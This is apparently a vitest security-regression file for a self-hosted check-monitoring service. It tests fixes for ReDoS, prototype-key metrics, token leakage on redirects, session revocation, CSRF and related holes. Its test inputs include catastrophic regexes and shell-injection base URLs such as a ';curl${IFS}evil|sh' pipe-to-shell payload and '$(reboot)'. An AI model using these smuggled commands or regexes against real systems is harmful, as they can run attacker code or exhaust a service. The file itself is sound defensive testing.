/**
 * Holes a hostile review of the running service found, each closed and pinned here against
 * the real `npm run serve` process: a catastrophic extraction regex, unauthenticated CPU
 * amplification, credentials on redirects, sessions after key rotation, shell snippets,
 * prototype keys as metrics, database file modes, malformed %-escapes, echoed channel
 * replies and the 405 of a wrong method.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { httpRequest } from '../helpers/net.js';
import { createCheck, serve, tempDir, type Served } from '../helpers/serve.js';

let s: Served;
beforeAll(async () => {
  s = await serve();
});
afterAll(async () => {
  await s?.stop();
  if (s) fs.rmSync(s.dataDir, { recursive: true, force: true });
});

const getCheck = async (uuid: string) => (await (await s.api(`/api/v3/checks/${uuid}`)).json()) as Record<string, any>;

describe('an extraction regex that backtracks for ever', () => {
  it('is refused with a 400 naming it, while a ping to another check is answered meanwhile', async () => {
    const victim = await createCheck(s, { name: 'victim', extract: [{ preset: 'errors' }] });
    const other = await createCheck(s, { name: 'other' });
    // a warm connection, so the ping below measures the service and not a handshake
    expect((await fetch(`${s.pingUrl}/ping/${other.uuid}`)).status).toBe(200);

    const order: string[] = [];
    const save = s
      .api(`/api/v3/checks/${victim.uuid}`, {
        method: 'POST',
        json: { name: 'renamed', extract: [{ name: 'x', regex: '(?:\\1|()){26}x', mode: 'count' }] },
      })
      .then(async (r) => {
        order.push('save');
        return { status: r.status, body: (await r.json()) as { error: string } };
      });
    const ping = fetch(`${s.pingUrl}/ping/${other.uuid}`, { method: 'POST', body: 'hello' }).then(async (r) => {
      order.push('ping');
      return `${r.status} ${await r.text()}`;
    });
    const [saved, pinged] = await Promise.all([save, ping]);

    expect(saved.status).toBe(400);
    expect(saved.body.error).toMatch(/^json validation error: extract\[0\]: regex of "x" timed out/);
    expect(pinged).toBe('200 OK');
    expect(order).toEqual(['ping', 'save']);
    const after = await getCheck(victim.uuid);
    expect([after.name, after.extract]).toEqual(['victim', [{ preset: 'errors' }]]);
    // the same rule on create is refused too, and no check is made
    const created = await s.api('/api/v3/checks/', { method: 'POST', json: { name: 'never', extract: [{ name: 'x', regex: '(a+)+$', mode: 'count' }] } });
    expect(created.status).toBe(400);
    expect(((await created.json()) as { error: string }).error).toMatch(/regex of "x" timed out/);
    const names = ((await (await s.api('/api/v3/checks/')).json()) as { checks: { name: string }[] }).checks.map((c) => c.name);
    expect(names).not.toContain('never');
  });

  it('a fine rule is saved and extracts from the next ping', async () => {
    const c = await createCheck(s, { name: 'rows', extract: [{ name: 'rows', regex: '^loaded (\\d+) rows', mode: 'last' }], assertions: ['rows > 0'] });
    expect((await fetch(`${s.pingUrl}/ping/${c.uuid}`, { method: 'POST', body: 'loaded 42 rows\n' })).status).toBe(200);
    const [p] = ((await (await s.api(`/api/lubdub/checks/${c.uuid}/metrics`)).json()) as { runs: { metrics: Record<string, number> }[] }).runs;
    expect(p.metrics.rows).toBe(42);
  });
});

describe('metric names that are Object.prototype members', () => {
  it('are ordinary metrics: a healthy run stays up, a sent __proto__ metric is kept and checked', async () => {
    const c = await createCheck(s, { name: 'proto', timeout: 3600, assertions: ['constructor > 0', '__proto__ >= 5', 'tostring < 1'] });
    expect((await fetch(`${s.pingUrl}/ping/${c.uuid}`, { method: 'POST', body: 'fine' })).status).toBe(200);
    expect((await getCheck(c.uuid)).status).toBe('up');
    expect((await fetch(`${s.pingUrl}/ping/${c.uuid}?metric=__proto__:5&metric=constructor:2`)).status).toBe(200);
    expect((await getCheck(c.uuid)).status).toBe('up');
    const runs = ((await (await s.api(`/api/lubdub/checks/${c.uuid}/metrics`)).json()) as { runs: { type: string; metrics: Record<string, number> }[] }).runs;
    expect(runs.map((r) => r.type)).toEqual(['success', 'success']);
    expect([Object.getOwnPropertyDescriptor(runs[1].metrics, '__proto__')?.value, runs[1].metrics.constructor]).toEqual([5, 2]);
    expect((await fetch(`${s.pingUrl}/ping/${c.uuid}?metric=__proto__:1`)).status).toBe(200);
    const after = await getCheck(c.uuid);
    expect([after.status, after.down_reason ?? null]).toEqual(['down', expect.stringContaining('__proto__')]);
  });
});

describe('auto-create pings from an address without the ping key', () => {
  it('are refused before their schedule is parsed, and every refusal, 400 or 404, counts toward the 429', async () => {
    const from = '127.0.2.1';
    const get = async (p: string) => {
      const r = await httpRequest(s.pingUrl, { path: p, localAddress: from });
      return `${r.status} ${r.body.toString()}`;
    };
    const checksBefore = ((await (await s.api('/api/v3/checks/')).json()) as { checks: unknown[] }).checks.length;
    // a wrong key is a 404 whatever the schedule says (its validation is never reached)
    expect(await get(`/ping/wrongkey/made-up?create=1&schedule=${encodeURIComponent('not a cron')}`)).toBe('404 not found');
    for (let i = 1; i < 30; i++) expect(await get(`/ping/wrongkey${i}/made-up?create=1&schedule=${encodeURIComponent(`${i} * * * * *`)}`)).toBe('404 not found');
    // with the key, a bad schedule is a 400, and it counts like a 404
    for (let i = 0; i < 30; i++) expect(await get(`/ping/${s.pingKey}/made-up-${i}?create=1&schedule=${encodeURIComponent(`61 ${i} * * *`)}`)).toMatch(/^400 invalid schedule/);
    expect(await get(`/ping/${s.pingKey}/made-up?create=1&schedule=${encodeURIComponent('0 3 * * *')}`)).toBe('429 too many refused ping requests, retry later');
    expect(((await (await s.api('/api/v3/checks/')).json()) as { checks: unknown[] }).checks.length).toBe(checksBefore);
    // other addresses are not affected
    const other = await httpRequest(s.pingUrl, { path: `/ping/${s.pingKey}/made-up?create=1&schedule=${encodeURIComponent('0 3 * * *')}`, localAddress: '127.0.2.2' });
    expect(other.status).toBe(201);
  });
});

/** A tiny HTTP server recording each request's path and Authorization, answering with `reply`. */
async function recorder(reply: (path: string, res: http.ServerResponse) => void) {
  const seen: { path: string; auth: string | null }[] = [];
  const srv = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      seen.push({ path: req.url ?? '', auth: req.headers.authorization ?? null });
      reply(req.url ?? '', res);
    });
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
  const url = `http://127.0.0.1:${(srv.address() as AddressInfo).port}`;
  return { url, seen, close: () => new Promise<void>((r) => srv.close(() => r())) };
}

async function testChannel(json: Record<string, unknown>): Promise<{ ok: boolean; error: string | null }> {
  const made = await s.api('/api/lubdub/channels', { method: 'POST', json });
  expect(made.status, await made.clone().text()).toBe(201);
  const { id } = (await made.json()) as { id: string };
  return (await (await s.api(`/api/lubdub/channels/${id}/test`, { method: 'POST' })).json()) as { ok: boolean; error: string | null };
}

describe('an ntfy token and redirects', () => {
  it('follows a same-origin redirect with the token and drops it on a redirect to another origin', async () => {
    const other = await recorder((_p, res) => res.writeHead(200).end('ok'));
    const ntfy = await recorder((p, res) => {
      if (p === '/alerts') res.writeHead(307, { location: '/moved' }).end();
      else if (p === '/moved') res.writeHead(308, { location: `${other.url}/stolen` }).end();
      else res.writeHead(404).end();
    });
    try {
      const r = await testChannel({ kind: 'ntfy', name: 'redirected ntfy', config: { url: `${ntfy.url}/alerts`, token: 'tk_secret' } });
      expect(r).toEqual({ ok: true, error: null });
      expect(ntfy.seen).toEqual([
        { path: '/alerts', auth: 'Bearer tk_secret' },
        { path: '/moved', auth: 'Bearer tk_secret' },
      ]);
      expect(other.seen).toEqual([{ path: '/stolen', auth: null }]);
    } finally {
      await Promise.all([ntfy.close(), other.close()]);
    }
  });
});

describe('a channel test against a service that answers with its secrets', () => {
  it('reports only the status code, never the reply', async () => {
    const metadata = await recorder((_p, res) => res.writeHead(403, { 'content-type': 'text/plain' }).end('SECRET-INSTANCE-CREDENTIALS aws_secret=abc123'));
    try {
      const r = await testChannel({ kind: 'webhook', name: 'metadata', config: { url: `${metadata.url}/latest/meta-data/` } });
      expect(r).toEqual({ ok: false, error: 'HTTP 403' });
      const deliveries = await (await s.api('/api/lubdub/deliveries')).text();
      expect(deliveries).not.toContain('SECRET');
    } finally {
      await metadata.close();
    }
  });
});

describe('console sessions', () => {
  it('all end when the API key is rotated (the rotating console gets a fresh one); logout ends one, or every one', async () => {
    const dataDir = tempDir();
    const k = await serve({ dataDir, env: { LUBDUB_API_KEY: '' } });
    try {
      const apiKey = JSON.parse(fs.readFileSync(path.join(dataDir, 'keys.json'), 'utf8')).apiKey as string;
      const cookieOf = (setCookie: string | null) => /lubdub_session=([^;]*)/.exec(setCookie ?? '')?.[1] ?? '';
      const newSession = async () => {
        const r = await fetch(`${k.uiUrl}/api/lubdub/session`, { method: 'POST', headers: { 'x-api-key': apiKey } });
        return ((await r.json()) as { value: string }).value;
      };
      const asSession = (sid: string, p: string, init: RequestInit = {}) =>
        fetch(k.uiUrl + p, { ...init, headers: { cookie: `lubdub_session=${sid}`, 'x-lubdub-csrf': '1', 'content-type': 'application/json' } });
      // a browser logged in with the printed link, and a session someone got with the old key
      const login = await fetch(k.loginUrl, { redirect: 'manual' });
      const browser = cookieOf(login.headers.get('set-cookie'));
      const stolen = await newSession();
      expect((await asSession(stolen, '/api/lubdub/settings')).status).toBe(200);

      const rotated = await asSession(browser, '/api/lubdub/keys/rotate', { method: 'POST', body: JSON.stringify({ which: 'api_key' }) });
      expect(rotated.status).toBe(200);
      const { value: newKey } = (await rotated.json()) as { value: string };
      const fresh = cookieOf(rotated.headers.get('set-cookie'));
      expect(fresh).not.toBe('');
      expect((await asSession(stolen, '/api/lubdub/settings')).status).toBe(401);
      expect((await asSession(browser, '/api/lubdub/settings')).status).toBe(401);
      const shown = (await (await asSession(fresh, '/api/lubdub/settings')).json()) as { api_key: string };
      expect(shown.api_key).toBe(newKey);

      // logout: this session only, then everywhere
      const other = (await (await fetch(`${k.uiUrl}/api/lubdub/session`, { method: 'POST', headers: { 'x-api-key': newKey } })).json()) as { value: string };
      const out = await asSession(fresh, '/api/lubdub/logout', { method: 'POST', body: '{}' });
      expect([out.status, out.headers.get('set-cookie')]).toEqual([200, expect.stringContaining('Max-Age=0')]);
      expect((await asSession(fresh, '/api/lubdub/settings')).status).toBe(401);
      expect((await asSession(other.value, '/api/lubdub/settings')).status).toBe(200);
      const third = (await (await fetch(`${k.uiUrl}/api/lubdub/session`, { method: 'POST', headers: { 'x-api-key': newKey } })).json()) as { value: string };
      expect((await asSession(other.value, '/api/lubdub/logout', { method: 'POST', body: '{"everywhere":true}' })).status).toBe(200);
      expect((await asSession(other.value, '/api/lubdub/settings')).status).toBe(401);
      expect((await asSession(third.value, '/api/lubdub/settings')).status).toBe(401);
      // a logout without the CSRF header is refused (a cross-site form cannot log anyone out)
      const fourth = (await (await fetch(`${k.uiUrl}/api/lubdub/session`, { method: 'POST', headers: { 'x-api-key': newKey } })).json()) as { value: string };
      const forged = await fetch(`${k.uiUrl}/api/lubdub/logout`, { method: 'POST', headers: { cookie: `lubdub_session=${fourth.value}` }, body: '{"everywhere":true}' });
      expect(forged.status).toBe(403);
      expect((await asSession(fourth.value, '/api/lubdub/settings')).status).toBe(200);
    } finally {
      await k.stop();
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  });
});

describe('a base URL that would make snippets run code', () => {
  it.each(['http://nas.local:8420/;curl${IFS}evil|sh', 'http://nas.local:8420/$(reboot)', "http://nas.local:8420/'", 'http://nas.local:8420/a b', 'http://nas.local:8420/%0areboot'])(
    '%j is refused by the settings and changes nothing',
    async (base) => {
      const before = (await (await s.api('/api/lubdub/settings')).json()) as { base_url: string };
      const r = await s.api('/api/lubdub/settings', { method: 'POST', json: { base_url: base } });
      expect(r.status).toBe(400);
      expect(((await r.json()) as { error: string }).error).toMatch(/^json validation error: base_url must be http\(s\):\/\/host/);
      expect(((await (await s.api('/api/lubdub/settings')).json()) as { base_url: string }).base_url).toBe(before.base_url);
    },
  );

  it('given at start, stops the service with a one-line reason', async () => {
    const dataDir = tempDir();
    try {
      await expect(serve({ dataDir, env: { LUBDUB_BASE_URL: 'http://nas.local:8420/`reboot`' }, timeoutMs: 15_000 })).rejects.toThrow(/LUBDUB_BASE_URL: must be http\(s\):\/\/host/);
    } finally {
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  });
});

describe('database files in a data dir that already exists', () => {
  it('are created 0600 whatever the umask, and tightened to 0600 on the next start', async () => {
    const dataDir = tempDir();
    const files = ['lubdub.db', 'lubdub.db-wal', 'lubdub.db-shm'].map((f) => path.join(dataDir, f));
    const modes = () => files.filter((f) => fs.existsSync(f)).map((f) => `${path.basename(f)} ${(fs.statSync(f).mode & 0o777).toString(8)}`);
    // the common umask, whatever the test runner's
    const wrap = ['/bin/sh', '-c', 'umask 022 && exec "$@"', 'sh'];
    try {
      const first = await serve({ dataDir, wrap });
      try {
        await createCheck(first, { name: 'holds secrets' });
        expect(modes()).toEqual(['lubdub.db 600', 'lubdub.db-wal 600', 'lubdub.db-shm 600']);
      } finally {
        await first.stop();
      }
      for (const f of files) if (fs.existsSync(f)) fs.chmodSync(f, 0o644);
      const second = await serve({ dataDir, wrap });
      try {
        expect((await second.api('/api/v3/checks/')).status).toBe(200);
        expect(modes()).toEqual(['lubdub.db 600', 'lubdub.db-wal 600', 'lubdub.db-shm 600']);
      } finally {
        await second.stop();
      }
    } finally {
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  });
});

describe('malformed %-escapes in the path', () => {
  it('on the console port meet the Host guard, then get the API error shape with the security headers', async () => {
    const misdirected = await httpRequest(s.uiUrl, { path: '/%ff', headers: { host: 'evil.example' } });
    expect(misdirected.status).toBe(421);
    for (const p of ['/%ff', '/api/v3/checks/%zz', '/%', '/api/v3/%E0%A4%A']) {
      const r = await httpRequest(s.uiUrl, { path: p });
      expect([p, r.status, JSON.parse(r.body.toString())]).toEqual([p, 400, { error: 'bad request: malformed percent-escape in the URL' }]);
      expect(r.headers['content-security-policy']).toBeTruthy();
      expect(r.headers['x-frame-options']).toBe('DENY');
    }
  });

  it('on the ping port get the receiver\'s plain reply and count toward the per-address 429', async () => {
    const from = '127.0.2.9';
    const first = await httpRequest(s.pingUrl, { path: '/ping/%ff', localAddress: from });
    expect([first.status, first.body.toString(), first.headers['content-type']]).toEqual([400, 'bad request', 'text/plain; charset=utf-8']);
    for (let i = 1; i < 60; i++) expect((await httpRequest(s.pingUrl, { path: `/ping/%f${i % 10}%`, localAddress: from })).status).toBe(400);
    expect((await httpRequest(s.pingUrl, { path: '/ping/%ff', localAddress: from })).status).toBe(429);
  });
});

describe('a wrong method on an existing management route', () => {
  it('is answered 405 with Allow, as healthchecks does; an unknown path stays 404', async () => {
    const c = await createCheck(s, { name: 'methods' });
    const cases: [string, string, string][] = [
      ['GET', `/api/v3/checks/${c.uuid}/pause`, 'POST'],
      ['PUT', `/api/v3/checks/${c.uuid}`, 'DELETE, GET, HEAD, POST'],
      ['DELETE', '/api/v3/checks/', 'GET, HEAD, POST'],
      ['POST', `/api/v3/checks/${c.uuid}/pings/`, 'GET, HEAD'],
    ];
    for (const [method, p, allow] of cases) {
      const r = await s.api(p, { method });
      expect([method, p, r.status, r.headers.get('allow'), await r.json()]).toEqual([method, p, 405, allow, { error: 'method not allowed' }]);
    }
    const missing = await s.api('/api/v3/nothing-here', { method: 'POST' });
    expect([missing.status, await missing.json()]).toEqual([404, { error: 'not found' }]);
    // still behind the API key
    expect((await fetch(`${s.uiUrl}/api/v3/checks/${c.uuid}/pause`)).status).toBe(401);
    expect((await fetch(`${s.uiUrl}/api/v3/checks/`, { method: 'DELETE' })).status).toBe(401);
    expect((await getCheck(c.uuid)).status).toBe('new');
  });
});
